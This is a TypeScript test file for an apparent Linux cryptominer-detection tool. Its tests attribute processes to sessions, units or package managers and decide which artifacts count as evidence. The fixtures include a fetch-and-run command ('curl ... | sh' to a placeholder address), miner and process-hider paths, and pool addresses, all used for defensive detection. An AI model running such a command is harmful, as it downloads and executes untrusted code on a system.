import assert from 'node:assert/strict';
import { test } from 'node:test';
import { linkKeyOf } from '#shared/context/link-key.ts';
import { linkableBy } from '#shared/context/linkable.ts';
import type { Process } from '#shared/model/event.ts';
import type { Artifact, LinkKey } from '#shared/model/place.ts';

const session = { session: '7', auid: '1000' };
const TABLE: readonly (readonly [string, Process | undefined, LinkKey])[] = [
  ['nothing is known', undefined, '-'],
  ['a daemon without session or unit', { executable: '/usr/sbin/nginx' }, '-'],
  ['a login session', { executable: '/usr/bin/vim', ...session }, 'ses:7'],
  ['a session without a login uid is no login', { session: '7' }, '-'],
  ['a named unit', { unit: 'miner.service' }, 'unit:miner.service'],
  ['a session beats a unit', { unit: 'miner.service', ...session }, 'ses:7'],
  ['a session scope names no unit', { unit: 'session-7.scope' }, '-'],
  ["a user's manager names no unit", { unit: 'user@1000.service' }, '-'],
  ['init names no unit', { unit: 'init.scope' }, '-'],
  ['a container names no unit', { unit: 'docker-0123456789ab.scope' }, '-'],
  ['a pod slice names no unit', { unit: 'kubepods-burstable.slice' }, '-'],
  ['a package manager beats a session', { executable: '/usr/bin/dpkg', ...session }, 'pkg'],
  [
    'a child of a package manager',
    { executable: '/usr/bin/sh', parentExecutable: '/usr/bin/apt-get', ...session },
    'pkg',
  ],
  ['a child of what has such a name', { executable: '/usr/bin/sh', parentName: 'apt-get' }, 'pkg'],
  [
    'a child of what has such a name in a session',
    { executable: '/usr/bin/sh', parentName: 'apt-get', ...session },
    'ses:7',
  ],
  ['a grandchild of a package manager', { ancestors: ['sh', 'dnf'] }, 'pkg'],
  [
    'the order to remove a package',
    { executable: '/usr/bin/apt-get', argv: ['apt-get', 'purge', '-y', 'a'], ...session },
    'ses:7',
  ],
  ['the order to erase', { executable: '/usr/bin/rpm', argv: ['rpm', '-e', 'a'], ...session }, 'ses:7'],
  ['an upgrade', { executable: '/usr/bin/apt-get', argv: ['apt-get', 'upgrade', '-y'], ...session }, 'pkg'],
  ['an installation', { executable: '/usr/bin/rpm', argv: ['rpm', '-i', 'a.rpm'], ...session }, 'pkg'],
  [
    'a removal that another package manager orders',
    { executable: '/usr/bin/dpkg', argv: ['dpkg', '-P', 'a'], parentExecutable: '/usr/bin/apt-get', ...session },
    'pkg',
  ],
  [
    'the script of a package that is removed',
    { executable: '/usr/bin/sh', argv: ['sh', 'a.prerm', 'remove'], parentExecutable: '/usr/bin/dpkg', ...session },
    'pkg',
  ],
  ['a configuration manager', { executable: '/opt/puppetlabs/puppet/bin/puppet' }, 'pkg'],
  ['a file that merely calls itself one', { executable: '/tmp/apt-get', ...session }, 'ses:7'],
  ['a program in /tmp whose parent calls itself one', { executable: '/tmp/x', parentName: 'dpkg' }, '-'],
  [
    'a parent whose path is elsewhere',
    { executable: '/bin/sh', parentName: 'dpkg', parentExecutable: '/tmp/dpkg' },
    '-',
  ],
];

/** An interpreter, the command line that it was called with, its short name, the key. */
type Script = readonly [string, string, string, LinkKey];
const SCRIPTS: readonly Script[] = [
  ['/usr/bin/python3.9', '/usr/bin/python3 /usr/bin/dnf -y upgrade', 'dnf', 'pkg'],
  ['/usr/libexec/platform-python3.6', '/usr/libexec/platform-python -s /usr/bin/dnf install a', 'dnf', 'pkg'],
  ['/usr/bin/python3.9', '/usr/bin/python3 /usr/bin/dnf-automatic --timer', 'dnf-automatic', 'pkg'],
  ['/usr/bin/python2.7', '/usr/bin/python /usr/bin/yum -y update', 'yum', 'pkg'],
  ['/usr/bin/python3.10', '/usr/bin/python3 /usr/bin/unattended-upgrade', 'unattended-upgr', 'pkg'],
  ['/usr/bin/python3.10 (deleted)', '/usr/bin/python3 /usr/bin/unattended-upgrade', 'unattended-upgr', 'pkg'],
  ['/usr/bin/python3.9', '/usr/bin/python3 /usr/bin/cloud-init modules --mode=final', 'cloud-init', 'pkg'],
  ['/usr/bin/python3.9', 'python3 /usr/local/bin/ansible-pull -U https://git.example.com/a', 'python3', 'pkg'],
  ['/usr/bin/python3.9', '/opt/certbot/bin/python3 /opt/certbot/bin/certbot -q renew', 'certbot', 'pkg'],
  ['/usr/bin/python3.9', '/usr/bin/python3 /root/.ansible/tmp/ansible-tmp-1.2-3/AnsiballZ_cron.py', 'python3', 'pkg'],
  [
    '/opt/puppetlabs/puppet/bin/ruby',
    '/opt/puppetlabs/puppet/bin/ruby /opt/puppetlabs/puppet/bin/puppet agent',
    'a.rb:12',
    'pkg',
  ],
  [
    '/opt/chef/embedded/bin/ruby',
    '/opt/chef/embedded/bin/ruby --disable-gems /usr/bin/chef-client',
    'chef-client',
    'pkg',
  ],
  [
    '/opt/cinc/embedded/bin/ruby',
    '/opt/cinc/embedded/bin/ruby --disable-gems /usr/bin/cinc-client',
    'cinc-client',
    'pkg',
  ],
  [
    '/opt/saltstack/salt/bin/python3.10',
    '/opt/saltstack/salt/bin/python3.10 /usr/bin/salt-minion',
    'salt-minion',
    'pkg',
  ],
  ['/usr/bin/ruby3.2', 'ruby /opt/codedeploy-agent/bin/codedeploy-agent start', 'ruby', 'pkg'],
  [
    '/usr/bin/perl',
    '/usr/bin/perl -w /usr/share/debconf/frontend /usr/sbin/dpkg-preconfigure --apt',
    'frontend',
    'pkg',
  ],
  ['/usr/bin/dash', '/bin/sh /usr/sbin/update-initramfs -u', 'update-initramf', 'pkg'],
  ['/usr/bin/dash', '/bin/sh /var/lib/dpkg/info/sysstat.postinst configure', 'sysstat.postins', 'pkg'],
  ['/usr/bin/dash', '/bin/sh -e /var/lib/dpkg/info/a.prerm remove', 'a.prerm', 'pkg'],
  ['/usr/bin/bash', '/bin/bash /var/lib/dpkg/tmp.ci/preinst upgrade 1', 'preinst', 'pkg'],
  // What gave the order is the caller's.
  ['/usr/bin/python3.9', '/usr/bin/python3 /usr/bin/dnf remove a', 'dnf', '-'],
  // Not the file that it is named after.
  ['/usr/bin/python3.9', '/usr/bin/python3 /tmp/dnf', 'dnf', '-'],
  ['/usr/bin/python3.9', '/usr/bin/python3 /root/dnf -y upgrade', 'dnf', '-'],
  ['/usr/bin/python3.9', '/usr/bin/python3 /usr/local/bin/dnf', 'dnf', '-'],
  ['/usr/bin/python3.9', '/usr/bin/python3 /usr/bin/../../tmp/dnf', 'dnf', '-'],
  ['/usr/bin/python3.9', '/usr/bin/python3 /usr/lib/.x/dnf', 'dnf', '-'],
  ['/usr/bin/python3.9', '/usr/bin/python3 dnf', 'dnf', '-'],
  ['/usr/bin/python3.9', 'dnf', 'dnf', '-'],
  ['/usr/bin/python3.9', 'dnf x.py', 'dnf', '-'],
  ['/usr/bin/python3.9', 'dnf /tmp/x.py', 'python3', '-'],
  ['/usr/bin/python3.9', '/usr/bin/python3 /usr/bin/dnf', 'x.py', '-'],
  ['/usr/bin/python3.9', '/usr/bin/python3 -c code /usr/bin/dnf', 'python3', '-'],
  ['/usr/bin/python3.9', '/usr/bin/python3 -mx /usr/bin/dnf', 'python3', '-'],
  ['/usr/bin/python3.9', '/usr/bin/python3 /tmp/x.py /usr/bin/dnf', 'dnf', '-'],
  ['/usr/bin/bash', '/bin/bash /usr/bin/dnf', 'dnf', '-'],
  ['/tmp/python3', '/tmp/python3 /usr/bin/dnf', 'dnf', '-'],
  ['/home/ubuntu/.x/bin/python3', 'python3 /usr/bin/dnf', 'dnf', '-'],
  ['/opt/chef/.x/bin/ruby', '/opt/chef/.x/bin/ruby /usr/bin/chef-client', 'chef-client', '-'],
  ['/opt/chef/embedded/bin/ruby', '/opt/chef/embedded/bin/ruby -e code', 'chef-client', '-'],
  ['/opt/chef/embedded/bin/ruby', '/opt/chef/embedded/bin/ruby /tmp/chef-client', 'chef-client', '-'],
  ['/usr/bin/dash', '/bin/sh /tmp/info/sysstat.postinst configure', 'sysstat.postins', '-'],
  ['/usr/bin/dash', '/bin/sh /var/lib/dpkg/info/../../../tmp/a.postinst', 'a.postinst', '-'],
  ['/usr/bin/dash', '/bin/sh -c x /var/lib/dpkg/info/a.postinst', 'sh', '-'],
  // Anybody may name a file so in /var/tmp.
  ['/usr/bin/bash', '/bin/sh /var/tmp/rpm-tmp.AbCdEf 1', 'sh', '-'],
  ['/usr/bin/python3.9', '/usr/bin/python3 /tmp/ansible-tmp-1.2-3/AnsiballZ_cron.py', 'python3', '-'],
];

test('tells the manager that is a script by the script that an installed interpreter runs', () => {
  for (const [executable, line, name, key] of SCRIPTS) {
    const process: Process = { executable, argv: line.split(' '), exact: true, name, uid: '0' };
    assert.equal(linkKeyOf(process), key, `${executable}: ${line} (${name})`);
    assert.equal(linkKeyOf({ ...process, uid: '1000' }), '-', `${line} of a user`);
    const parent = { parentExecutable: executable, parentCommandLine: line, parentName: name };
    if (key === 'pkg')
      assert.equal(linkKeyOf({ executable: '/usr/bin/cp', ...parent, uid: '0' }), 'pkg', `under ${line}`);
  }
});

/** What is left where a record has no command line, or one that the program wrote. */
const NAMES: readonly (readonly [string, Process, LinkKey])[] = [
  ['the short name', { executable: '/usr/bin/python3.9', name: 'dnf' }, 'pkg'],
  ['a short name that the kernel cut', { executable: '/usr/bin/python3.10', name: 'unattended-upgr' }, 'pkg'],
  ['the short name of a maintainer script', { executable: '/usr/bin/dash', name: 'sysstat.postins' }, 'pkg'],
  ['a whole one', { executable: '/usr/bin/dash', name: 'cron.postinst' }, 'pkg'],
  ['a vendored runtime', { executable: '/opt/puppetlabs/puppet/bin/ruby', name: 'ruby' }, 'pkg'],
  [
    'a title',
    {
      executable: '/opt/puppetlabs/puppet/bin/ruby',
      name: 'puppet',
      argv: ['puppet', 'agent:', 'applying'],
      exact: false,
    },
    'pkg',
  ],
  [
    'a command line that begins with the short name',
    { executable: '/usr/bin/python3.9', name: 'dnf', argv: ['dnf', '/usr/bin/dnf', 'upgrade'], exact: false },
    'pkg',
  ],
  [
    'such a command line of a file elsewhere',
    { executable: '/usr/bin/python3.9', name: 'dnf', argv: ['dnf', '/tmp/dnf'], exact: false },
    '-',
  ],
  ['the short name under another interpreter', { executable: '/usr/bin/bash', name: 'dnf' }, '-'],
  ['the short name under a program', { executable: '/usr/bin/tee', name: 'dnf' }, '-'],
  ['the short name elsewhere', { executable: '/tmp/python3', name: 'dnf' }, '-'],
  ['no name of a manager', { executable: '/usr/bin/python3.9', name: 'x' }, '-'],
  ['a name cut too short to tell', { executable: '/usr/bin/dash', name: 'long-package.po' }, '-'],
];

test('takes a name alone for a manager in a root process without login, and in no other', () => {
  for (const [what, process, key] of NAMES) {
    assert.equal(linkKeyOf({ ...process, uid: '0' }), key, what);
    assert.equal(linkKeyOf({ ...process, uid: '1000' }), '-', `${what}, of a user`);
  }
  for (const [what, process] of NAMES.filter(([, { argv }]) => argv === undefined)) {
    assert.equal(linkKeyOf(process), '-', `${what}, of nobody knows whom`);
    assert.equal(linkKeyOf({ ...process, uid: '0', ...session }), 'ses:7', `${what}, in a session`);
  }
});

test('keeps what an administrator has dnf do apart from the session, and what Ansible does over SSH in it', () => {
  const python = { executable: '/usr/bin/python3.9', exact: true, uid: '0', ...session };
  assert.equal(linkKeyOf({ ...python, argv: ['python3', '/usr/bin/dnf', 'upgrade'], name: 'dnf' }), 'pkg');
  const module = '/root/.ansible/tmp/ansible-tmp-1.2-3/AnsiballZ_cron.py';
  assert.equal(linkKeyOf({ ...python, argv: ['python3', module], name: 'python3' }), 'ses:7');
});

for (const [name, process, key] of TABLE) {
  test(`${name}: ${key}`, () => assert.equal(linkKeyOf(process), key));
}

const linkable = linkableBy({
  name: (dns) =>
    dns === 'pool.example.org'
      ? { entry: { name: dns, kind: 'pool', operator: 'x', source: 'x', date: '2026-01-01' }, name: dns, site: false }
      : undefined,
  address: () => undefined,
});

const LINKS: readonly (readonly [Artifact, boolean])[] = [
  ['path:/tmp/.x/xmrig', true],
  ['path:/opt/app/run', true],
  ['path:/usr/local/lib/libprocesshider.so', true],
  ['path:/tmp/bash', false],
  ['path:/usr/bin/perl', false],
  ['path:/etc/crontab', false],
  ['path:/root/.ssh/authorized_keys', false],
  ['path:/var/spool/cron/root', false],
  ['path:/dev/shm/x', true],
  ['path:/dev/cpu/0/msr', false],
  ['wallet:48ed', true],
  ['cmd:curl http://198.51.100.9/x | sh', true],
  ['pool:pool.example.org:3333', false],
  ['pool:203.0.113.9:3333', true],
  ['url:http://198.51.100.9/x.sh', true],
  ['url:https://github.com/xmrig/xmrig', false],
  ['url:not a url', false],
  ['algo:rx/0', false],
  ['miner:xmrig', false],
];

for (const [artifact, expected] of LINKS) {
  test(`${artifact} ${expected ? 'links' : 'never links'}`, () => assert.equal(linkable(artifact), expected));
}
